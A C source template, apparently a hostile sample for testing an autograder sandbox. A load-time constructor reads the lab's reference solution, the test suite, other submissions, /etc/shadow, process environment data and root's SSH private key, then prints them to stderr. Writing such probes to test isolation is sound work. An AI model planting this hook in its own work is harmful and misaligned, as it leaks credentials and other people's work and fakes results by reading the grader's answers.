/* about: reads solutions, suites, other submissions, keys and the memory of its ancestors, and tells what it finds
 * time: run
 * threat: read
 */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
@STARTER@
__attribute__((constructor)) static void look(void)
{
    static char seen[1 << 16];
    const char *places[] = {"@KIT@/solutions/lab1_client_send/client_send.c", "@KIT@/labs/lab1_client_send/suite.c", "@OTHER@",
                            "/etc/shadow", "/proc/1/environ", "/proc/1/maps", "@KIT@/.git/HEAD", "/root/.ssh/id_rsa"};
    for (unsigned i = 0; i < sizeof places / sizeof places[0]; i++) {
        int file = open(places[i], O_RDONLY);
        ssize_t n = file == -1 ? 0 : read(file, seen, sizeof seen);
        if (n > 0) {
            fprintf(stderr, "%s: ", places[i]);
            (void)!write(2, seen, (size_t)n);
        }
    }
}
